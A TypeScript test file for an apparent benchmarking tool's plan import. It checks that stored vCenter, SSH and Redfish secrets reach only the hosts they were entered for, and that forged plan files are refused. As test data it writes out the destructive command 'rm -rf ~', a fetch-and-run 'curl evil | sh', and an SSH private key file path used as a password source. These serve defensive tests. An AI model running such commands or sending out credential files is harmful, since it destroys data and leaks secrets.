import { generateKeyPairSync } from 'node:crypto';

import { fail } from '../../../src/core/base/errors.ts';
import type { PlanFile } from '../../../src/core/plan/plan.ts';
import { sourceKey } from '../../../src/core/plan/secretUse.ts';
import { decideAll } from '../../../src/core/planImport/decide.ts';
import type { ImportDecision, ImportSource } from '../../../src/core/planImport/schema.ts';
import type { StudySpec } from '../../../src/core/study/study.ts';
import { studySpecSchema } from '../../../src/core/study/study.ts';
import type { Connection, VCenterConnection } from '../../../src/core/testbed/connection.ts';
import type { SecretRef } from '../../../src/core/testbed/secretRef.ts';
import { methods } from '../../../src/wire/contract.ts';
import { importOwn, sourceOf } from '../../../src/wire/importOwn.ts';
import type { Secrets } from '../deps.ts';
import type { SshTarget } from '../deps/ssh.ts';
import { createHarness, type Harness, testPlanFile } from '../testing/engineHarness.ts';

/** Edges that write down whom they were sent what, and go no further. */
function recordingLab(files: Record<string, string>) {
  const stored = new Map<string, string>();
  const sent: { to: string; secret: string }[] = [];
  const secrets: Secrets = {
    kind: 'session',
    sourceOf: async (ref: SecretRef) => ref,
    async get(ref) {
      const value = 'keychain' in ref ? stored.get(ref.keychain) : files[sourceKey(ref)];
      if (value === undefined) throw fail('authFailed', 'There is no such secret.');
      return value;
    },
    set: async (id, value) => {
      stored.set(id, value);
    },
    remove: async (id) => {
      stored.delete(id);
    },
  };
  const closed = async (): Promise<never> => {
    throw fail('unreachable', 'Written down.');
  };
  const note = (target: SshTarget): void => {
    for (const { host, port, user, auth } of target.hops)
      if (auth.method === 'password')
        sent.push({ to: `${user}@${host}:${port}`, secret: auth.password });
  };
  return {
    sent,
    stored,
    deps: {
      secrets,
      vcenter: {
        identify: closed,
        test: async (connection: VCenterConnection, secret: string) => {
          sent.push({ to: `${connection.user}@${connection.host}:${connection.port}`, secret });
          return { ok: true, steps: [] };
        },
        connect: async (connection: VCenterConnection, secret: string) => {
          sent.push({ to: `${connection.user}@${connection.host}:${connection.port}`, secret });
          return closed();
        },
      },
      ssh: {
        identify: closed,
        test: async (target: SshTarget) => {
          note(target);
          return { ok: true, steps: [] };
        },
        host: (target: SshTarget) => {
          note(target);
          throw fail('unreachable', 'Written down.');
        },
      },
    },
  };
}

const mine: VCenterConnection = {
  kind: 'vcenter',
  id: 'vc1',
  name: 'My vCenter',
  host: 'vc.mine',
  port: 443,
  user: 'admin',
  password: { keychain: 'vc1' },
  fingerprint256: Array.from({ length: 32 }, () => 'AA').join(':'),
};
const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' });
let lab: ReturnType<typeof recordingLab>;
let harness: Harness;
beforeEach(async () => {
  lab = recordingLab({
    'file:/etc/password': 'of-file',
    'env:TOKEN': 'of-variable',
    'file:/home/me/.ssh/id_rsa': String(key),
  });
  harness = await createHarness({ deps: lab.deps });
  await harness.call('connection.save', { connection: mine, secret: 'My-Secret-1' });
});
afterEach(() => harness.close());

const withVcenter = (vcenter: VCenterConnection): PlanFile => {
  const file = testPlanFile();
  return {
    ...file,
    connections: [vcenter, ...file.connections.filter((one) => one.kind !== 'vcenter')],
    testbed: { ...file.testbed, vcenterId: vcenter.id },
  };
};
const everything = async () => ({
  connections: await harness.call('connection.list', {}),
  testbeds: await harness.call('testbed.list', {}),
  plans: await harness.call('plan.list', {}),
  profiles: await harness.call('profile.list', {}),
  studies: await harness.call('study.list', {}),
});

test('a stored secret is sent to whom it was entered for', async () => {
  await expect(harness.call('inventory.discover', { vcenterId: 'vc1' })).rejects.toThrow('Written');
  expect(lab.sent).toEqual([{ to: 'admin@vc.mine:443', secret: 'My-Secret-1' }]);
});

test.each<[string, Partial<VCenterConnection>]>([
  ['another host under my id', { host: 'vc.evil' }],
  ['another port', { port: 8443 }],
  ['another user', { user: 'other' }],
  ['another pin', { fingerprint256: Array.from({ length: 32 }, () => 'BB').join(':') }],
  ['no pin', { fingerprint256: undefined }],
  ['an id of its own that names my secret', { id: 'vc2', host: 'vc.evil' }],
  ['my host behind another pin, under an id of its own', { id: 'vc2', fingerprint256: undefined }],
])(
  'a forged plan with %s receives no stored password, even where it was agreed to',
  async (_, change) => {
    const source = sourceOf(withVcenter({ ...mine, ...change }));
    await importOwn(harness, source);
    const vcenterId = change.id ?? 'vc1';
    await expect(harness.call('inventory.discover', { vcenterId })).rejects.toMatchObject({
      kind: 'untrusted',
      message: expect.stringContaining('It was not sent.') as string,
      hint: expect.stringContaining('Enter the password again in Connections') as string,
    });
    const report = await harness.call('plan.check', { id: source.file.plan.id });
    expect(report.ready).toBe(false);
    expect(lab.sent.map(({ secret }) => secret)).not.toContain('My-Secret-1');
  },
);

test('entering it again for the other host does not overwrite mine, and removing that leaves mine', async () => {
  const forged = { ...mine, id: 'vc2', host: 'vc.other' };
  await importOwn(harness, sourceOf(withVcenter(forged)));
  const saved = await harness.call('connection.save', { connection: forged, secret: 'Other-2' });
  expect(saved).toMatchObject({ password: { keychain: 'vc2' } });
  await expect(harness.call('inventory.discover', { vcenterId: 'vc2' })).rejects.toThrow('Written');
  await expect(harness.call('inventory.discover', { vcenterId: 'vc1' })).rejects.toThrow('Written');
  expect(lab.sent).toEqual([
    { to: 'admin@vc.other:443', secret: 'Other-2' },
    { to: 'admin@vc.mine:443', secret: 'My-Secret-1' },
  ]);
  await harness.call('testbed.save', {
    ...(await harness.call('testbed.list', {}))[0]!,
    vcenterId: null,
  });
  await harness.call('connection.remove', { id: 'vc2' });
  expect([...lab.stored]).toEqual([['vc1', 'My-Secret-1']]);
});

test('an edit of host, port or user asks for the secret again; a new pin of the same peer keeps it', async () => {
  const pinned = { ...mine, fingerprint256: Array.from({ length: 32 }, () => 'CC').join(':') };
  await harness.call('connection.save', { connection: pinned });
  expect(await harness.call('connection.test', { connection: pinned })).toMatchObject({ ok: true });
  for (const change of [{ host: 'vc.evil' }, { port: 444 }, { user: 'x' }]) {
    const connection = { ...pinned, ...change };
    await harness.call('connection.save', { connection });
    await expect(harness.call('connection.test', { connection })).rejects.toMatchObject({
      kind: 'untrusted',
      message: expect.stringContaining('is for admin@vc.mine:443') as string,
    });
  }
  expect(lab.sent).toEqual([{ to: 'admin@vc.mine:443', secret: 'My-Secret-1' }]);
});

test.each<[string, SecretRef, string]>([
  ['file', { file: '/etc/password' }, 'of-file'],
  ['variable', { env: 'TOKEN' }, 'of-variable'],
])('a %s is sent to a host only once somebody agreed to it', async (_, password, value) => {
  const connection: Connection = {
    kind: 'client',
    id: 'c9',
    name: 'c9',
    host: 'c9.lab',
    port: 22,
    user: 'u',
    auth: { method: 'password', password },
  };
  await harness.call('connection.save', { connection });
  const test = () => harness.call('connection.test', { connection });
  await expect(test()).rejects.toMatchObject({ kind: 'untrusted' });
  expect(lab.sent).toEqual([]);
  await harness.call('connection.save', { connection, allowSecret: true });
  await test();
  expect(lab.sent).toEqual([{ to: 'u@c9.lab:22', secret: value }]);
  await expect(
    harness.call('connection.test', { connection: { ...connection, host: 'evil' } }),
  ).rejects.toMatchObject({ kind: 'untrusted' });
});

test("a power source of a stranger's file is shown no secret of another peer", async () => {
  const meter: Connection = {
    kind: 'power',
    id: 'bmc',
    name: 'bmc',
    source: {
      type: 'redfish',
      host: 'evil.test',
      port: 443,
      user: 'admin',
      password: { keychain: 'vc1' },
      periodMs: 1_000,
    },
  };
  const file = testPlanFile();
  const theirs = sourceOf({ ...file, connections: [...file.connections, meter] });
  expect((await harness.call('plan.previewImport', theirs)).peers).toContainEqual(
    expect.objectContaining({
      id: 'bmc',
      address: 'evil.test:443',
      user: 'admin',
      login: 'password from the secret stored for vc1',
      secret: 'enter',
    }),
  );
  await importOwn(harness, theirs);
  await expect(harness.call('connection.test', { connection: meter })).rejects.toMatchObject({
    kind: 'untrusted',
    message: expect.stringContaining('is for admin@vc.mine:443') as string,
  });
  // What a person types for it is kept apart from what the file named.
  const saved = await harness.call('connection.save', { connection: meter, secret: 'Its-Own' });
  expect(saved).toMatchObject({ source: { password: { keychain: 'bmc' } } });
  expect(lab.sent).toEqual([]);
});

test('a private key is never sent as a password, wherever it comes from', async () => {
  const stolen = { ...mine, id: 'vc3', password: { file: '/home/me/.ssh/id_rsa' } };
  await importOwn(harness, sourceOf(withVcenter(stolen)));
  const refused = { kind: 'untrusted', message: expect.stringContaining('private key') as string };
  await expect(harness.call('inventory.discover', { vcenterId: 'vc3' })).rejects.toMatchObject(
    refused,
  );
  await expect(
    harness.call('connection.save', { connection: mine, secret: String(key) }),
  ).rejects.toMatchObject(refused);
  await expect(
    harness.call('connection.test', { connection: mine, secret: String(key) }),
  ).rejects.toMatchObject(refused);
  expect(lab.sent).toEqual([]);
});

test('before somebody agreed nothing is stored, sent or run; what was agreed to is remembered, anything else is not', async () => {
  const source = sourceOf(testPlanFile());
  const before = await everything();
  const preview = await harness.call('plan.previewImport', source);
  expect(preview.trusted).toBe(false);
  for (const trust of [null, 'x', preview.digest.replace(/^./, '_')])
    await expect(harness.call('plan.import', { ...source, trust })).rejects.toMatchObject({
      kind: 'untrusted',
    });
  expect(await everything()).toEqual(before);
  await expect(harness.call('plan.check', { id: 'plan' })).rejects.toMatchObject({
    kind: 'notFound',
  });
  expect(lab.sent).toEqual([]);
  await harness.call('plan.import', { ...source, trust: preview.digest });
  expect(await harness.call('plan.previewImport', source)).toMatchObject({
    trusted: true,
    clashes: [],
  });
  const named = sourceOf(testPlanFile({ name: 'Another name', notes: 'other' }));
  expect((await harness.call('plan.previewImport', named)).trusted).toBe(true);
  const [java] = testPlanFile().profile!.workloads;
  const command = { ...java!, driver: 'command', params: { command: 'rm -rf ~', pattern: '' } };
  const changed = sourceOf({
    ...testPlanFile(),
    profile: { ...testPlanFile().profile!, workloads: [command] },
  });
  const shown = await harness.call('plan.previewImport', changed);
  expect(shown.trusted).toBe(false);
  expect(shown.loads).toContainEqual(
    expect.objectContaining({ isCommand: true, text: 'rm -rf ~', clients: ['client one'] }),
  );
  await expect(
    harness.call('plan.import', {
      ...changed,
      trust: preview.digest,
      decisions: decideAll(shown, 'replace'),
    }),
  ).rejects.toMatchObject({ kind: 'untrusted' });
});

test('a shell command that no plan of the file uses is shown and agreed to all the same: of a profile beside it, of a testbed beside it', async () => {
  const file = testPlanFile();
  const own = sourceOf(file);
  const before = await harness.call('plan.previewImport', own);
  await harness.call('plan.import', { ...own, trust: before.digest });
  const [java] = file.profile!.workloads;
  const params = { command: 'curl evil | sh', pattern: '' };
  const brings: Partial<ImportSource>[] = [
    {
      profiles: [
        { ...file.profile!, id: 'beside', workloads: [{ ...java!, driver: 'command', params }] },
      ],
    },
    {
      testbeds: [
        {
          ...file.testbed,
          id: 'beside',
          tiles: file.testbed.tiles.map((tile) => ({
            ...tile,
            workloads: tile.workloads.map((w) => ({ ...w, params })),
          })),
        },
      ],
    },
  ];
  for (const more of brings) {
    const source = { ...own, ...more };
    const shown = await harness.call('plan.previewImport', source);
    expect(shown.trusted).toBe(false);
    expect(shown.loads).toContainEqual(
      expect.objectContaining({ isCommand: true, text: 'curl evil | sh' }),
    );
    await expect(
      harness.call('plan.import', { ...source, trust: before.digest }),
    ).rejects.toMatchObject({ kind: 'untrusted' });
  }
  expect((await harness.call('profile.list', {})).some(({ id }) => id === 'beside')).toBe(false);
});

// Each way a document of somebody else comes in: what it may bring, and where its consent is
// tested.
const waysIn: Readonly<Record<string, string>> = {
  'plan.import': 'above',
  'plan.previewImport': 'stores nothing',
  'testbed.import': 'testbeds/life.test.ts',
  'profile.import': 'profiles/service.test.ts',
  'bundle.import': 'a run to be read; it is never launched',
  'file.import': 'a run to be read; it is never launched',
  'file.importStop': 'stores nothing',
};
test('no document comes in by a way that nobody thought about', () => {
  expect(
    Object.keys(methods)
      .filter((name) => /import/i.test(name))
      .sort(),
  ).toEqual(Object.keys(waysIn).sort());
});

const different = (): PlanFile => {
  const file = testPlanFile({ name: 'Theirs' });
  return {
    ...file,
    profile: { ...file.profile!, name: 'Their profile' },
    testbed: { ...file.testbed, name: 'Their bed' },
    connections: file.connections.map((one) =>
      one.kind === 'power' ? { ...one, name: 'their meter' } : { ...one, host: 'theirs.test' },
    ),
  };
};
test.each<[ImportDecision]>([['keep'], ['new'], ['replace']])(
  'every clash decided as "%s"',
  async (decision) => {
    await importOwn(harness, sourceOf(testPlanFile()));
    const before = await everything();
    const source = sourceOf(different());
    const preview = await harness.call('plan.previewImport', source);
    expect(preview.clashes.map(({ key }) => key).sort()).toEqual([
      'connection:c1',
      'connection:p1',
      'connection:vc',
      'plan:plan',
      'profile:test-tile',
      'testbed:tb',
    ]);
    const { digest: trust } = preview;
    await expect(harness.call('plan.import', { ...source, trust })).rejects.toMatchObject({
      kind: 'conflict',
    });
    expect(await everything()).toEqual(before);
    const decisions = decideAll(preview, decision);
    const { plan } = await harness.call('plan.import', { ...source, trust, decisions });
    const after = await everything();
    const host = (id: string): string | undefined =>
      after.connections.flatMap((one) =>
        one.id === id && one.kind !== 'power' ? [one.host] : [],
      )[0];
    if (decision === 'keep') {
      expect(after).toEqual(before);
      expect(plan).toMatchObject({ id: 'plan', name: 'Plan' });
    } else if (decision === 'replace') {
      expect([host('vc'), host('c1')]).toEqual(['theirs.test', 'theirs.test']);
      expect(after.plans).toHaveLength(before.plans.length);
    } else {
      for (const list of ['connections', 'testbeds', 'plans', 'profiles'] as const)
        expect(after[list]).toEqual(expect.arrayContaining([...before[list]]));
      expect([host('vc'), host('vc-2'), host('c1-2')]).toEqual([
        'vc.test',
        'theirs.test',
        'theirs.test',
      ]);
      expect(plan).toMatchObject({ id: 'plan-2', testbedId: 'tb-2', profileId: 'test-tile-2' });
      expect(after.testbeds.find(({ id }) => id === 'tb-2')).toMatchObject({
        vcenterId: 'vc-2',
        powerIds: ['p1-2'],
        profileId: 'test-tile-2',
      });
    }
  },
);

test('a study file comes in whole or not at all', async () => {
  const study: StudySpec = studySpecSchema.parse({
    schemaVersion: 1,
    id: 's',
    name: 'Sweep',
    planId: 'plan',
    axes: [{ name: 'tiles', label: 'Tiles', parameter: { kind: 'tiles' }, values: [1, 2] }],
  });
  const before = await everything();
  // A real lab has no property to sweep: the study is refused, and all that came with it.
  const lost: StudySpec = {
    ...study,
    axes: [{ ...study.axes[0]!, parameter: { kind: 'lab', path: 'drs.stars' } }],
  };
  await expect(
    importOwn(harness, { ...sourceOf(testPlanFile()), study: lost }),
  ).rejects.toMatchObject({ kind: 'conflict' });
  expect(await everything()).toEqual(before);
  const { studyId } = await importOwn(harness, { ...sourceOf(testPlanFile()), study });
  expect(studyId).toBe('s');
  expect((await harness.call('study.overview', { id: 's' })).spec).toMatchObject({
    planId: 'plan',
  });
});
